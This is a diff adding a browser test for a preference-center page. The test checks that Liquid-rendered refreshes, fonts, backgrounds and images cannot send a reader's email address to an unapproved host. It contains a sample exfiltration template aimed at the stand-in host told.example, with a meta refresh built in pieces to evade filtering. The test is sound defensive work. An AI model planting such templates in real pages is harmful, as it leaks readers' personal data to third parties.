@@ -194,6 +194,36 @@ describe("the ready page in a browser without scripts", { skip }, async () => {
     assert.equal(await page.title(), "Before");
   });
 
+  test("a refresh and pictures that Liquid writes tell no other host what a page knows of its reader", async () => {
+    const { workspace } = await withAda(server);
+    const path = `/admin/v1/workspaces/${workspace.name}/preference-centers/${CENTER}`;
+    const told = "https://told.example/?{{$" + "{email_address} | url_encode}}";
+    const page_html = `<title>Choices</title><p>Here</p>
+{% capture to %}${told}{% endcapture %}
+{{ "<me" | append: "ta http-equiv='refresh' content='0;url=" | append: to | append: "'>" | raw }}
+<style>@font-face { font-family: told; src: url("${told}") } p { font-family: told; background: url("${told}") }</style>
+<img src="${told}" alt=""><svg><image href="${told}" /></svg>`;
+    const { status, body } = await server.admin("PUT", path, { name: "main", page_html });
+    assert.equal(status, 200, JSON.stringify(body));
+    const url = server.url + (await pageOf(workspace, CENTER));
+    for (const hosts of [[], ["told.example"]]) {
+      const settings = { page_image_hosts: hosts };
+      await server.admin("PUT", `/admin/v1/workspaces/${workspace.name}/settings`, settings);
+      const { page } = await open("about:blank", { javaScriptEnabled: true });
+      const asked = new Set<string>();
+      await page.route("https://told.example/**", (route) => {
+        asked.add(route.request().resourceType());
+        return route.fulfill({ status: 200, contentType: "text/html", body: "told" });
+      });
+      await page.goto(url);
+      assert.match(await page.content(), /http-equiv="?refresh/);
+      await page.waitForTimeout(1_000);
+      assert.equal(page.url(), url);
+      // The same requests are seen where the workspace allows the host: the test can fail.
+      assert.deepEqual([...asked].sort(), hosts.length === 0 ? [] : ["font", "image"]);
+    }
+  });
+
   test("saving the form leads to the redirect URL of the preference center", async () => {
     const { workspace } = await withAda(server);
     const path = `/admin/v1/workspaces/${workspace.name}/preference-centers/${CENTER}`;
